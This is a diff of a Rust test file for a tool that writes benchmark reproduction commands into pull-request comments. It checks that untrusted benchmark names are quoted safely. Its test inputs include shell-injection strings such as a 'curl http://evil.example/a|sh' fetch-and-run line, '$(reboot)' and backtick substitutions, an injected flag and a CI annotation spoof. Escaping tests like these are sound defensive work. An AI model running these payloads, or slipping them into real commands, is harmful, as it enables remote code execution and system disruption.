@@ -2,7 +2,7 @@
 
 use cargo_infergate::receipt::{BuiltWith, Evidence, Outcome, Subject, Terms};
 use cargo_infergate::report::inputs::Inputs;
-use cargo_infergate::report::words::command::{file, flag, word};
+use cargo_infergate::report::words::command::{flag, word};
 use infergate_core::case::Case;
 
 use crate::report_formats::support::{file as page, paired};
@@ -32,21 +32,14 @@ pub fn bench(name: &str) -> Inputs {
     inputs
 }
 
-const NAMES: [&str; 14] = [
-    "x; curl http://evil.example/a|sh",
-    "parse/a file",
-    "it's",
-    "\"$(reboot)\" `reboot` $HOME",
+const NAMES: [&str; 7] = [
+    "x; curl http://evil.example/a|sh && b > c < d",
+    "it's a \"$(reboot)\" `reboot` $HOME",
     "--worker-build=sh",
-    "-x",
-    "a && b > c < d & e",
     "*?[a-z]{1,2}~!#^",
     "back\\slash\\'",
     "```",
-    "%s%n",
-    "ä 模型",
-    "::error::x ##[error]y",
-    "x\u{fe0f}y",
+    "::error::x ##[error]y x\u{fe0f}y",
 ];
 
 /// Each word of a command is one of ours, or one flag of ours with the whole name as its value.
@@ -69,26 +62,30 @@ fn a_name_is_one_word_of_a_command() {
     }
 }
 
-/// Else the command looks for the bench target of the usual name.
+/// Else another bench target, another package or another program is measured.
 #[test]
-fn commands_for_criterion_benches_name_their_bench_target() {
+fn commands_name_the_bench_target_and_how_it_was_built() {
     let mut inputs = bench("fib/20");
     let receipt = inputs.paired.as_mut().expect("a pair");
     for side in [&mut receipt.base, &mut receipt.head] {
         (side.engine.name, side.engine.model) = ("criterion".into(), "my bench".into());
     }
+    receipt.built_with = BuiltWith {
+        package: Some("my engine".into()),
+        features: vec!["simd".to_owned(), "std".to_owned()],
+        no_default_features: true,
+        profile: Some("release-lto".into()),
+    };
     let comment = page(&inputs, "comment.md");
-    let lines = commands(&comment);
-    assert!(
-        lines[1].contains(" --bench-target 'my bench' ") && lines[2].contains(" --bench-target 'my bench' "),
-        "{comment}"
-    );
-    assert!(comment.contains("\nbenches of my bench, "), "no engine, threads or model: {comment}");
-    let report = page(&inputs, "report.md");
-    for word in ["| threads |", "| seed |", "| engine |", "| architecture |"] {
-        assert!(!report.contains(word), "{word} is in {report}");
+    let words = " --bench-target 'my bench' --bench-package 'my engine' --bench-features simd --bench-features std \
+                 --bench-default-features=false --bench-profile release-lto";
+    for line in &commands(&comment)[1..] {
+        assert!(line.contains(words), "{line}");
     }
-    assert!(report.contains("| bench target | `my bench` |"), "{report}");
+    // One that would burst the comment is not shown, and no half of it.
+    inputs.paired.as_mut().expect("a pair").built_with.features = vec!["x".repeat(2_000); 1_000];
+    let comment = page(&inputs, "comment.md");
+    assert!(commands(&comment).is_empty() && comment.len() < 65_536, "{} bytes", comment.len());
 }
 
 /// A bisection builds bench targets alone, and without `--server` the gate does.
@@ -100,44 +97,6 @@ fn commands_for_servers_and_programs_measure_these() {
         let comment = page(&inputs, "comment.md");
         let lines = commands(&comment);
         assert!(lines.len() == 2 && lines[1].contains(" --server ") == is_server, "{comment}");
-    }
-}
-
-/// Else another package, or another program, is measured.
-#[test]
-fn commands_name_how_the_bench_target_was_built() {
-    let mut inputs = bench("fib/20");
-    let receipt = inputs.paired.as_mut().expect("a pair");
-    let features = vec!["simd".to_owned(), "std".to_owned()];
-    receipt.built_with = BuiltWith {
-        package: Some("my engine".into()),
-        features,
-        no_default_features: true,
-        profile: Some("release-lto".into()),
-    };
-    let comment = page(&inputs, "comment.md");
-    let words = " --bench-package 'my engine' --bench-features simd --bench-features std --bench-default-features=false \
-                 --bench-profile release-lto";
-    for line in &commands(&comment)[1..] {
-        assert!(line.contains(words), "{line}");
-    }
-    // One that would burst the comment is not shown, and no half of it.
-    inputs.paired.as_mut().expect("a pair").built_with.features = vec!["x".repeat(2_000); 1_000];
-    let comment = page(&inputs, "comment.md");
-    assert!(commands(&comment).is_empty() && comment.len() < 65_536, "{} bytes", comment.len());
-}
-
-/// Not by the rules of a crate alone.
-#[cfg(unix)]
-#[test]
-fn a_shell_takes_it_for_one_word_too() {
-    for name in NAMES {
-        let (flag, file) = (flag("cases", name).expect("a word"), file(name).expect("a word"));
-        let said = std::process::Command::new("sh").arg("-c").arg(format!("printf '[%s]'{flag}{file}")).output();
-        let said = String::from_utf8(said.expect("a shell").stdout).expect("text");
-        let is_flag = name.starts_with('-');
-        let cases = if is_flag { format!("[--cases={name}]") } else { format!("[--cases][{name}]") };
-        assert_eq!(said, format!("{cases}[{}{name}]", if is_flag { "./" } else { "" }));
     }
 }
 
@@ -164,13 +123,9 @@ fn a_name_is_one_value_of_a_table() {
 /// What nobody sees, or what ends the line, is in no command.
 #[test]
 fn what_cannot_stand_on_a_line_is_left_out() {
-    for bad in ["a\nb", "a\tb", "a\u{202e}b", "a\u{200b}b", "a\u{1b}[2Jb", "a\0b", "a\u{ffff}b", &"x".repeat(64 << 10)]
-    {
-        assert_eq!((word(bad), flag("case", bad), file(bad)), (None, None, None), "{bad:?}");
+    for bad in ["a\nb", "a\u{202e}b", "a\u{200b}b", "a\u{1b}[2Jb", "a\0b", &"x".repeat(64 << 10)] {
+        assert_eq!((word(bad), flag("case", bad)), (None, None), "{bad:?}");
     }
-    for bad in ["a\u{202e}b", "a\u{200b}b"] {
-        let comment = page(&bench(bad), "comment.md");
-        assert!(commands(&comment).iter().all(|line| !line.contains("bench:")), "{comment}");
-        assert!(!comment.contains("Find the commit"), "{comment}");
-    }
+    let comment = page(&bench("a\u{202e}b"), "comment.md");
+    assert!(commands(&comment).iter().all(|line| !line.contains("bench:")), "{comment}");
 }
